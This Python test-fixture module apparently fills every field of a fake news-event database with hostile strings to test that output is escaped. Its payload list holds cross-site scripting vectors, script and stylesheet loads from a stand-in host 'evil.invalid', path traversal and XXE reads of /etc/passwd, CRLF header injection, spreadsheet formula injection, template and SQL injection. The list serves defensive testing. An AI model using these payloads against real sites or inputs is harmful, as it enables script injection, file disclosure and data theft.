"""Texts that are out to run, to load, to hide or to break something, and a chronicle that holds them wherever it holds text."""

HIT = "window.hit=1"
PAYLOADS = (
    # scripts
    f"<script>{HIT}</script>", f"</script><script>{HIT}</script>", f"<ScRiPt/x>{HIT}</sCrIpT >", f"<script\n>{HIT}</script\n>",
    f"<<script>{HIT}//<</script>", f"<scr<script>ipt>{HIT}</scr</script>ipt>", "<script src=http://evil.invalid/x.js></script>",
    f"<script type=module>{HIT}</script>", f"<noscript><p title=\"</noscript><script>{HIT}</script>\">",
    # comments and ends of raw elements
    "<!--<script>", f"--><script>{HIT}</script>", f"--!><script>{HIT}</script>", f"]]><script>{HIT}</script>",
    f"<![CDATA[<script>{HIT}</script>]]>", f"</title></style></textarea></script><script>{HIT}</script>",
    f"<textarea></textarea><script>{HIT}</script>", "</main></body></html>", "</table></td></tr></ul></bdi></blockquote>",
    # handlers
    f"<img src=x onerror={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><use href=\"data:image/svg+xml,<svg onload={HIT}>\"/></svg>",
    f"<math><mtext></p><style><img src=x onerror={HIT}></style></mtext></math>",
    f"<math href=\"javascript:{HIT}\">x</math>", f"<body onload={HIT}>", f"<details open ontoggle={HIT}>x</details>",
    f"<video><source onerror={HIT}></video>", f"<audio src=x onerror={HIT}>", f"<marquee onstart={HIT}>x</marquee>",
    f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>",
    f"<p style=animation-name:x onanimationstart={HIT}>",
    # attributes
    f"\" autofocus onfocus={HIT} x=\"", f"' onmouseover='{HIT}", f"` onload={HIT} `", f"x onclick={HIT} y",
    f"\"><img src=x onerror={HIT}>",
    # addresses
    f"<a href='javascript:{HIT}'>x</a>", f"javascript:{HIT}", f"java\tscript:{HIT}", f"JaVaScRiPt&colon;{HIT}",
    f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0PTE8L3NjcmlwdD4=",
    "//evil.invalid/x",
    "http://evil.invalid/\r\nSet-Cookie: a=b\r\n\r\n<script>", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "C:/CON/aux.txt",
    f"<form action='javascript:{HIT}'><input type=submit autofocus>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<base href='http://evil.invalid/'>", "<iframe srcdoc='<script>parent.hit=1</script>'>",
    f"<object data='javascript:{HIT}'>",
    f"<embed src='data:image/svg+xml,<svg onload={HIT}>'>", "<link rel=stylesheet href='http://evil.invalid/x.css'>",
    # style
    "<style>@import 'http://evil.invalid/x.css';</style>", "<style>body{display:none}</style>",
    "}</style><style>*{display:none}",
    "x;background:url(http://evil.invalid/x.png)", "position:fixed;inset:0;z-index:99", "expression(window.hit=1)",
    # templates and scripts' own text
    "{{ 7*7 }}{% for x in () %}", "{{ self.__init__.__globals__ }}", "${window.hit=1}", "#{7*7}", "<%= 7*7 %>",
    "\\u003cscript\\u003e",
    "\"}];window.hit=1;//", "'};window.hit=1;//", "\\\";window.hit=1;//", "\u2028window.hit=1\u2029", "__proto__",
    "constructor",
    "{\"$schema\":\"http://evil.invalid\"}", "datum.hit = (window.hit=1)",
    # direction, width, odd letters
    "\u202e\u2066txt.exe\u2069", "\u200f\u061c\u202bABC", "\ufeff\u200b\u2060x\u00ad",
    "\x00<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "\x1b[31mred\x07\x08", "\ufffe\uffff", "\U000e0041\U000e0042", "\u0301" * 300, "\U0001f600" * 50, "\ufdfd" * 40, "A" * 3000,
    "<b>" * 500, "Z\u0335\u0321\u0344" * 60, "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    # tables and papers
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r\n=1+1",
    "=HYPERLINK(\"http://evil.invalid\";\"x\")", "=IMPORTXML(\"http://evil.invalid\";\"//a\")", "a,b;c\"d\ne\rf",
    "| a | b |\n|---|",
    "[x](javascript:window.hit=1)", "![x](http://evil.invalid/x.png)", "[^1]: note", "<w:p/></w:t></w:r>",
    "&lt;script&gt;&amp;&#0;&x;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "'; DROP TABLE lines;--", "$1\\1\\g<0>%s%n{0}",
)  # fmt: skip
ENDLESS = "w" * 100_000
LONE = "half \ud83d of a pair \udc00"
"""What no file can hold: readers put a sign in its place; what is sent to the workbench may still hold it."""


def infested(fake, payloads=PAYLOADS):
    """A chronicle in which each payload is an article, a name, a label, a rule, a claim, a place and a rejected input."""
    held = {name: [] for name in fake.tables()}
    texts = {}
    for number, bad in enumerate(payloads):
        texts[f"d{number}"] = f"Headline {bad}\n\nBorduria accused {bad} on Tuesday."
        for table, rows in rows_of(fake, number, bad, texts[f"d{number}"]).items():
            held[table].extend(rows)
    return fake.invented(held=held, texts=texts)


def rows_of(fake, number, bad, text):
    """Rows of all tables that hold a payload in each of their texts."""
    id, sentence = f"d{number}", text[text.index("Borduria accused") :]
    told = {"text": bad, "start": text.rindex(bad), "end": text.rindex(bad) + len(bad)}
    source = {**told, "name": bad, "code": bad[:5], "sectors": [], "kind": "says"}
    stance = {"source": bad, "code": bad, "sectors": [bad], "document": id, "evidence": told, "attribution": [source]}
    figure = {"id": f"f{number}", "what": bad, "value": None, "low": None, "high": 2.0, "unit": bad, "comparator": "<",
        "period": None, "incident": f"i{number}", "document": id, "evidence": told, "attribution": [source],
        "agrees_with": [], "conflicts_with": ["f0"]}  # fmt: skip
    accord = {"id": f"g{number}", "name": bad, "parties": [party(bad)], "mediators": [party(bad)], "date": fake.MAY4,
        "evidence": [{"document": id, **told}], "provisions": [{"document": id, **told}], "breaches": [{"by": bad,
        "alleged_by": bad, "document": id, "evidence": told, "denials": [{"by": bad, "document": id, **told}]}]}  # fmt: skip
    return {
        **told_rows(fake, number, bad, text, sentence, told, source),
        "claims": [{"id": f"c{number}", "proposition": bad, "incident": f"i{number}",
            "stances": [{**stance, "stance": "asserts"}, {**stance, "stance": "denies"}]}],
        "figures": [figure],
        "ranges": [fake.joined_range(f"r{number}", [[figure]])],
        "agreements": [accord] if number % 8 == 5 else [],
        "conditions": [{"id": f"k{number}", "subject": bad, "state": bad, "from": fake.MAY4, "until": None,
            "evidence": [{"document": id, **told}]}],
        "stories": [{"id": f"t{number}", "label": bad, "when": fake.MAY4, "documents": [id], "origins": [f"o{number}"],
            "independent_origins": 1}],
        "origins": [{"id": f"o{number}", "agency": bad, "documents": [id], "method": bad, "score": 1.0, "evidence": []}],
        "rejected": [{"source": bad, "stage": bad, "reason": "binary", "detail": bad}],
    }  # fmt: skip


def told_rows(fake, number, bad, text, sentence, told, source):
    """An article, an event of it and its incident."""
    id = f"d{number}"
    place = {**told, "name": bad, "country": None, "admin1": bad, "lat": None, "lon": None, "geonames": None, "precision": bad}
    document = fake.document(id, text, title=bad, publisher=bad, agency=bad, source=bad, language=bad, author=bad, rubric=bad,
        origin=f"o{number}", story=f"t{number}")  # fmt: skip
    event = fake.event(f"e{number}", text, id, f"i{number}", "ACCUSE", sentence, "accused", rule=bad, contexts=[bad],
        actors=[{**told, **party(bad)}], attribution=[source], where=place,
        when={**fake.MAY4, "text": bad, "how": bad})  # fmt: skip
    incident = fake.incident(f"i{number}", "ACCUSE", [f"e{number}"], [id], label=bad, actors=[party(bad)], where=place,
        origins=[f"o{number}"], disagreements=[{"field": bad, "values": [{"value": bad, "events": [f"e{number}"]}]}])  # fmt: skip
    return {"documents": [document], "events": [event], "incidents": [incident]}


def party(bad):
    return {"name": bad, "code": None, "sectors": [bad], "role": bad, "wikidata": None}
